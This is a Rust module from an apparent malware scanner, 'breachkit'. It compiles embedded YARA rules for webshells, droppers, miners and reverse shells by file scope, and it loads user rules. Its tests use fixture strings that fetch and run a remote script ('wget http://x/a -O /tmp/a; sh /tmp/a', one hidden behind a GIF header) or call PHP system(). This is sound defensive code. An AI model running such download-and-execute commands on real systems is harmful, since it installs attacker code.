//! The YARA rules: breachkit's own (`rules/yara/<scope>/*.yar`, embedded in the
//! binary) and the user's (`--rules FILE|DIR`), each compiled once. Each rule's
//! meta says its family, score and description; user rules without them count as
//! `scan.user-rule` with [`USER_SCORE`].
//!
//! A built-in rule runs only on the files its [`Scope`] says it can concern
//! (`rules/yara/README.md`); a file is searched once, with the rule set compiled for
//! its scope. User rules run on every file.

use crate::ScanError;
use crate::family::Family;
use crate::heuristics::{self, Kind};
use std::path::{Path, PathBuf};

/// Which files a built-in rule runs on. The scopes nest: a file of one scope is
/// scanned with the rules of that scope and of the scopes before it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Scope {
    /// Every file, data included.
    Any,
    /// Every file that is not data (an image, binary data other than a program, a
    /// JSON document): what an interpreter or a browser may run.
    Script,
    /// Files with a PHP open tag: what PHP may run.
    Php,
}

impl Scope {
    pub const ALL: [Scope; 3] = [Scope::Any, Scope::Script, Scope::Php];

    /// The scope of a file of this kind, name and content.
    pub(crate) fn of(path: &str, kind: Kind, bytes: &[u8]) -> Scope {
        if memchr::memmem::find(bytes, b"<?").is_some() {
            Scope::Php
        } else if is_json_document(path, bytes)
            // An image or binary data with a NUL byte early; a "GIF89a" header on
            // top of a shell script is still a script.
            || (matches!(kind, Kind::Image | Kind::Binary) && heuristics::has_nul_in_head(bytes))
        {
            Scope::Any
        } else {
            Scope::Script
        }
    }
}

/// A `.json` file that starts like a JSON object or array.
fn is_json_document(path: &str, bytes: &[u8]) -> bool {
    heuristics::extension_of(path) == "json"
        && matches!(bytes.trim_ascii_start().first(), Some(b'{' | b'['))
}

/// The embedded rule files: scope, name, text.
pub const BUILTIN: &[(Scope, &str, &str)] = &[
    (
        Scope::Any,
        "any/miner.yar",
        include_str!("../../../rules/yara/any/miner.yar"),
    ),
    (
        Scope::Script,
        "script/asp.yar",
        include_str!("../../../rules/yara/script/asp.yar"),
    ),
    (
        Scope::Script,
        "script/bot.yar",
        include_str!("../../../rules/yara/script/bot.yar"),
    ),
    (
        Scope::Script,
        "script/dropper.yar",
        include_str!("../../../rules/yara/script/dropper.yar"),
    ),
    (
        Scope::Script,
        "script/js.yar",
        include_str!("../../../rules/yara/script/js.yar"),
    ),
    (
        Scope::Script,
        "script/mailer.yar",
        include_str!("../../../rules/yara/script/mailer.yar"),
    ),
    (
        Scope::Script,
        "script/miner.yar",
        include_str!("../../../rules/yara/script/miner.yar"),
    ),
    (
        Scope::Script,
        "script/shell.yar",
        include_str!("../../../rules/yara/script/shell.yar"),
    ),
    (
        Scope::Php,
        "php/dropper.yar",
        include_str!("../../../rules/yara/php/dropper.yar"),
    ),
    (
        Scope::Php,
        "php/loader.yar",
        include_str!("../../../rules/yara/php/loader.yar"),
    ),
    (
        Scope::Php,
        "php/look.yar",
        include_str!("../../../rules/yara/php/look.yar"),
    ),
    (
        Scope::Php,
        "php/mailer.yar",
        include_str!("../../../rules/yara/php/mailer.yar"),
    ),
    (
        Scope::Php,
        "php/webshell.yar",
        include_str!("../../../rules/yara/php/webshell.yar"),
    ),
];

const BUILTIN_NAMESPACE: &str = "breachkit";
const USER_NAMESPACE: &str = "user";
/// Score of a user rule without a `score` meta.
pub(crate) const USER_SCORE: u32 = 75;
/// Score of a built-in rule without a `score` meta (none ships without one).
const DEFAULT_SCORE: u32 = 50;

/// The compiled rules.
pub(crate) struct RuleSets {
    /// For each scope (indexed by `Scope as usize`): the built-in rules of that
    /// scope and the scopes before it, and the heuristics' words.
    pub builtin: [yara_x::Rules; 3],
    pub user: Option<yara_x::Rules>,
}

/// Compiles the built-in rules for each scope, and the user's rule files (or every
/// `*.yar` and `*.yara` under a directory given).
pub(crate) fn compile(user: &[PathBuf]) -> Result<RuleSets, ScanError> {
    // yara-x compiles to native code: the three sets compile in parallel.
    let builtin = std::thread::scope(|threads| {
        Scope::ALL
            .map(|scope| threads.spawn(move || compile_builtin(scope)))
            .map(|t| {
                t.join()
                    .unwrap_or_else(|panic| std::panic::resume_unwind(panic))
            })
    });
    let [any, script, php] = builtin;
    let builtin = [any?, script?, php?];
    let user = if user.is_empty() {
        None
    } else {
        let mut compiler = yara_x::Compiler::new();
        compiler.colorize_errors(false);
        compiler.new_namespace(USER_NAMESPACE);
        for path in user {
            for file in rule_files(path)? {
                let src = std::fs::read_to_string(&file).map_err(|e| ScanError::read(&file, e))?;
                add(&mut compiler, &src, &breachkit_finding::escape_path(&file))?;
            }
        }
        Some(compiler.build())
    };
    Ok(RuleSets { builtin, user })
}

/// The built-in rules a file of `scope` is scanned with.
fn compile_builtin(scope: Scope) -> Result<yara_x::Rules, ScanError> {
    let mut compiler = yara_x::Compiler::new();
    compiler.colorize_errors(false);
    compiler.new_namespace(BUILTIN_NAMESPACE);
    for (_, name, src) in BUILTIN.iter().filter(|(s, _, _)| *s <= scope) {
        add(&mut compiler, src, name)?;
    }
    for words in Scope::ALL.iter().filter(|s| **s <= scope) {
        if let Some(rule) = heuristics::words_rule(*words) {
            add(&mut compiler, &rule, "(the heuristics' words)")?;
        }
    }
    Ok(compiler.build())
}

/// A built-in private rule that finds the heuristics' words.
pub(crate) fn is_words_rule(rule: &yara_x::Rule) -> bool {
    rule.namespace() == BUILTIN_NAMESPACE && heuristics::is_words_rule(rule.identifier())
}

fn add(compiler: &mut yara_x::Compiler, src: &str, origin: &str) -> Result<(), ScanError> {
    let code = yara_x::SourceCode::from(src).with_origin(origin);
    compiler
        .add_source(code)
        .map(|_| ())
        .map_err(|e| ScanError::Compile {
            origin: origin.to_string(),
            message: e.to_string(),
        })
}

/// A rule file, or the rule files under a directory (sorted, symlinks not followed).
fn rule_files(path: &Path) -> Result<Vec<PathBuf>, ScanError> {
    let meta = std::fs::metadata(path).map_err(|e| ScanError::read(path, e))?;
    if !meta.is_dir() {
        return Ok(vec![path.to_path_buf()]);
    }
    let mut files = Vec::new();
    let mut dirs = vec![path.to_path_buf()];
    while let Some(dir) = dirs.pop() {
        for entry in std::fs::read_dir(&dir).map_err(|e| ScanError::read(&dir, e))? {
            let entry = entry.map_err(|e| ScanError::read(&dir, e))?;
            let ft = entry
                .file_type()
                .map_err(|e| ScanError::read(&entry.path(), e))?;
            let p = entry.path();
            if ft.is_dir() {
                dirs.push(p);
            } else if ft.is_file() && p.extension().is_some_and(|e| e == "yar" || e == "yara") {
                files.push(p);
            }
        }
    }
    if files.is_empty() {
        return Err(ScanError::NoRules {
            path: breachkit_finding::escape_path(path),
        });
    }
    files.sort();
    Ok(files)
}

/// What a matching rule says about itself.
pub(crate) struct RuleMeta<'r> {
    pub family: Family,
    pub score: u32,
    pub description: Option<&'r str>,
}

pub(crate) fn meta<'r>(rule: &yara_x::Rule<'_, 'r>) -> RuleMeta<'r> {
    let user = rule.namespace() == USER_NAMESPACE;
    let mut m = RuleMeta {
        family: if user {
            Family::UserRule
        } else {
            Family::Loader
        },
        score: if user { USER_SCORE } else { DEFAULT_SCORE },
        description: None,
    };
    for (key, value) in rule.metadata() {
        match (key, value) {
            ("family", yara_x::MetaValue::String(f)) => {
                if let Some(f) = Family::parse(f) {
                    m.family = f;
                }
            }
            ("score", yara_x::MetaValue::Integer(s)) => m.score = s.clamp(0, 1000) as u32,
            ("description", yara_x::MetaValue::String(d)) => m.description = Some(d),
            _ => {}
        }
    }
    m
}

#[cfg(test)]
mod tests {
    use super::*;

    /// yara-x warns about slow patterns (poor atoms) among other things: the
    /// built-in rules must give none, or every scan pays for them.
    #[test]
    fn builtin_rules_give_no_compiler_warnings() {
        let mut compiler = yara_x::Compiler::new();
        for (_, name, src) in BUILTIN {
            add(&mut compiler, src, name).unwrap();
        }
        for scope in Scope::ALL {
            if let Some(rule) = heuristics::words_rule(scope) {
                add(&mut compiler, &rule, "words").unwrap();
            }
        }
        let warnings: Vec<String> = compiler.warnings().iter().map(|w| w.to_string()).collect();
        assert!(warnings.is_empty(), "{}", warnings.join("\n"));
    }

    #[test]
    fn builtin_rules_compile_with_meta() {
        let rules = compile(&[]).unwrap();
        let mut n = 0;
        for rule in rules.builtin[Scope::Php as usize]
            .iter()
            .filter(|r| !is_words_rule(r) && !heuristics::is_look_rule(r.identifier()))
        {
            n += 1;
            let mut family = false;
            let mut score = false;
            let mut description = false;
            for (k, v) in rule.metadata() {
                match (k, v) {
                    ("family", yara_x::MetaValue::String(f)) => family = Family::parse(f).is_some(),
                    ("score", yara_x::MetaValue::Integer(s)) => score = s > 0,
                    ("description", yara_x::MetaValue::String(d)) => description = !d.is_empty(),
                    _ => {}
                }
            }
            assert!(
                family && score && description,
                "rule {} lacks meta",
                rule.identifier()
            );
        }
        assert!(n >= 30, "{n} rules");
    }

    /// Each scope's set has the rules of its own directory and the ones before.
    #[test]
    fn scopes_nest() {
        let rules = compile(&[]).unwrap();
        let names = |scope: Scope| -> Vec<String> {
            let mut v: Vec<String> = rules.builtin[scope as usize]
                .iter()
                .filter(|r| !is_words_rule(r))
                .map(|r| r.identifier().to_string())
                .collect();
            v.sort();
            v
        };
        let (any, script, php) = (names(Scope::Any), names(Scope::Script), names(Scope::Php));
        assert!(any.contains(&"miner_config".to_string()));
        assert!(!any.contains(&"shell_reverse_shell".to_string()));
        assert!(script.contains(&"shell_reverse_shell".to_string()));
        assert!(!script.contains(&"php_request_to_exec".to_string()));
        assert!(any.iter().all(|r| script.contains(r)));
        assert!(script.iter().all(|r| php.contains(r)));
        assert!(php.contains(&"php_request_to_exec".to_string()));
    }

    #[test]
    fn scope_of_a_file() {
        let of = |path: &str, bytes: &[u8]| Scope::of(path, Kind::of(path, bytes), bytes);
        assert_eq!(of("/w/a.php", b"<?php echo 1;"), Scope::Php);
        // An open tag anywhere, in any file: PHP may include it.
        assert_eq!(
            of("/w/u/fav.ico", b"\x00\x00\x01\x00\x01\x00junk<?php x();"),
            Scope::Php
        );
        assert_eq!(
            of(
                "/w/notes.txt",
                &[b"a".repeat(9000), b"<? system($x);".to_vec()].concat()
            ),
            Scope::Php
        );
        // A .php file without an open tag is plain text to PHP.
        assert_eq!(of("/w/page.php", b"<html>hello</html>"), Scope::Script);
        assert_eq!(of("/tmp/run", b"#!/bin/sh\nwget x"), Scope::Script);
        assert_eq!(of("/tmp/.x/m", b"\x7fELF\x02\x01\x00\x00"), Scope::Script);
        assert_eq!(of("/w/i18n/en.json", b"  {\"a\": \"b\"}"), Scope::Any);
        assert_eq!(of("/w/list.json", b"[1, 2]"), Scope::Any);
        // Named .json but not shaped like it: a script in disguise.
        assert_eq!(of("/tmp/c.json", b"wget http://x/a; sh a"), Scope::Script);
        assert_eq!(
            of("/w/a.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR"),
            Scope::Any
        );
        // An image header glued on a script is a script.
        assert_eq!(
            of(
                "/w/u/a.gif",
                b"GIF89a;\nwget http://x/a -O /tmp/a; sh /tmp/a"
            ),
            Scope::Script
        );
        assert_eq!(of("/w/a.mo", b"\xde\x12\x04\x95\x00\x00"), Scope::Any);
    }

    #[test]
    fn user_rules_from_dirs_and_errors() {
        let t = tempfile::tempdir().unwrap();
        std::fs::create_dir(t.path().join("sub")).unwrap();
        std::fs::write(
            t.path().join("sub/a.yar"),
            "rule mine { strings: $a = \"zz-marker\" condition: $a }",
        )
        .unwrap();
        std::fs::write(t.path().join("notes.txt"), "not a rule").unwrap();
        assert!(compile(&[t.path().to_path_buf()]).is_ok());
        let bad = t.path().join("bad.yar");
        std::fs::write(&bad, "rule broken { condition: $nope }").unwrap();
        let Err(err) = compile(&[bad]) else {
            panic!("a broken rule file compiled")
        };
        let err = err.to_string();
        assert!(err.contains("bad.yar"), "{err}");
        let empty = tempfile::tempdir().unwrap();
        assert!(matches!(
            compile(&[empty.path().to_path_buf()]),
            Err(ScanError::NoRules { .. })
        ));
    }
}
